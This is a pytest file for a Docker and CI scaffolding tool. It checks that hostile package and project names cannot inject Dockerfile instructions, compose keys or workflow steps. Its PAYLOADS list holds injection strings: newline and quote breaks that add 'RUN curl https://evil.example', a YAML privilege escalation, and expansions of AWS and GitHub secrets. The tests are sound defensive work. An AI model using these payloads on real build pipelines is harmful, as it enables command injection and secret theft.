"""A project and a lock of a stranger: their names never become instructions of a Dockerfile or keys of YAML."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from tests.unit.export.locked import package
from tests.unit.scaffold.made import document, planned

from poetry_aiops.config import read_config
from poetry_aiops.errors import ConfigError, InputError, UsageError
from poetry_aiops.project.checks import normalised
from poetry_aiops.project.model import Lock, Package, PackageSource
from poetry_aiops.project.pyproject import project_from
from poetry_aiops.scaffold.facts import load_actions, load_image_facts, load_system_facts
from poetry_aiops.scaffold.options import ScaffoldOptions
from poetry_aiops.scaffold.plan import ScaffoldInput, plan
from poetry_aiops.scaffold.render import compose, dockerfile, dockerignore, update_workflow, workflow


if TYPE_CHECKING:
    from poetry_aiops.scaffold.model import ScaffoldPlan


EVIL = "curl https://evil.example"
PAYLOADS = {
    "line": f"x\nRUN {EVIL}",
    "carriage": f"x\rRUN {EVIL}",
    "separator": f"x\u2028RUN {EVIL}",
    "yaml": f'x"\n    privileged: true\n    command: "{EVIL}',
    "quotes": f'x"] && {EVIL} #',
    "backslash": f"x\\\nRUN {EVIL}",
    "variable": "${AWS_SECRET_ACCESS_KEY}$(id)",
    "expression": "${{ secrets.TOKEN }}",
    "directive": "# escape=`",
}
INSTRUCTIONS = [
    "ARG",
    "CMD",
    "COPY",
    "ENTRYPOINT",
    "ENV",
    "EXPOSE",
    "FROM",
    "HEALTHCHECK",
    "RUN",
    "USER",
    "WORKDIR",
]

every_payload = pytest.mark.parametrize("text", PAYLOADS.values(), ids=PAYLOADS)


def made(name: str = "shop", script: str = "shop", *packages: Package) -> ScaffoldPlan:
    document = {
        "project": {
            "name": name,
            "version": "1",
            "requires-python": ">=3.11,<4.0",
            "scripts": {script: "a:b"},
        },
    }
    given = ScaffoldInput(
        project=project_from(document, Path("shop/pyproject.toml")),
        document=document,
        lock=Lock("2.1", ">=3.11,<4.0", "x", packages, {}, Path("poetry.lock")),
        config=read_config({}),
        extras=False,
        exists=lambda _name: False,
        there=lambda _name: True,
        poetry="2.4.1",
        plugin="1.0.0",
        exported=True,
        tests=True,
        packaged=None,
        compiles=frozenset(),
        written_by=f"poetry scaffold docker --command {name}",
    )
    return plan(given, ScaffoldOptions(), load_image_facts(), load_system_facts())


def instructions(text: str) -> list[str]:
    """Return the instructions of a Dockerfile, as Docker reads lines: comments out, continued lines joined."""
    lines = [line for line in re.split(r"[\n\r\x85\u2028\u2029]", text) if not line.startswith("#")]
    joined = "\n".join(lines).replace("\\\n", " ")
    return [line.split()[0] for line in joined.split("\n") if line.strip()]


@every_payload
def test_names_become_no_instruction_of_a_dockerfile(text: str) -> None:
    compiled = replace(
        package("native"), name=text, pretty_name=text, files=package("x", files=("x-1.tar.gz",)).files
    )
    harmless = instructions(dockerfile(made("shop", "shop", replace(compiled, name="native"))))
    found = dockerfile(made(text, text, compiled))
    assert instructions(found) == harmless
    assert set(harmless) <= set(INSTRUCTIONS)
    assert found.startswith("# syntax=docker/dockerfile:1\n#\n"), "no directive can follow"
    assert f"CMD {json.dumps([text])}" in found, "the command is one word that no shell reads"


@every_payload
def test_names_become_no_key_and_no_variable_of_compose(text: str) -> None:
    found, harmless = compose(made(text, text)), compose(made())
    assert [line.partition(":")[0] for line in found.splitlines() if not line.startswith("#")] == [
        line.partition(":")[0] for line in harmless.splitlines() if not line.startswith("#")
    ]
    assert "AWS_SECRET" not in "".join(line for line in found.splitlines() if not line.startswith("#"))


@every_payload
def test_names_become_no_step_of_a_workflow(text: str) -> None:
    assert steps(made(text)) == steps(made())


def steps(one: ScaffoldPlan) -> list[str]:
    """Return the lines of both workflows that are no comment."""
    actions = load_actions()
    lines = (workflow(one, actions) + update_workflow(one, actions)).split("\n")
    return [line for line in lines if not line.startswith("#")]


@every_payload
def test_a_command_line_in_a_comment_ends_no_comment(text: str) -> None:
    lines = dockerignore(made(text)).splitlines()
    assert lines[1:] == dockerignore(made()).splitlines()[1:]


@pytest.mark.parametrize("key", ["line", "yaml", "quotes", "variable"])
def test_an_extra_that_is_more_than_a_word_is_refused(key: str) -> None:
    project = document()
    name = normalised(PAYLOADS[key])
    project["project"]["optional-dependencies"] = {name: ["hypercorn"]}
    with pytest.raises(UsageError, match="cannot name"):
        planned(project, asked=ScaffoldOptions(extras=(name,)))
    profile = {"profiles": {"production": {"groups": ["main", PAYLOADS[key]]}}}
    with pytest.raises((UsageError, ConfigError)):
        planned(document(aiops=profile))


@pytest.mark.parametrize("key", ["line", "yaml", "quotes", "variable"])
def test_a_folder_outside_of_the_project_with_a_hostile_name_is_refused(key: str) -> None:
    outside = package("lib", source=PackageSource("directory", "../lib"))
    evil = replace(outside, name=PAYLOADS[key])
    assert made("shop", "shop", outside).contexts
    with pytest.raises(InputError, match="is not the name of a package"):
        made("shop", "shop", evil)
    with pytest.raises(UsageError, match="cannot hold this path"):
        made("shop", "shop", replace(outside, source=PackageSource("directory", f"../{PAYLOADS[key]}")))


def test_logins_are_mounted_and_secrets_stay_out_of_the_context() -> None:
    text = dockerfile(replace(made(), logins=True))
    assert "--mount=type=secret,id=poetry-auth" in text
    assert [
        line
        for line in text.splitlines()
        if re.match(r"(ARG|ENV|COPY).*(auth|password|token)", line, re.IGNORECASE)
    ] == []
    ignored = dockerignore(made()).splitlines()
    assert {
        "**/.env*",
        "**/auth.toml",
        "**/*.key",
        "**/*.pem",
        "**/.git",
        "**/.migration_backup",
        "*.bak*",
    } <= {*ignored}
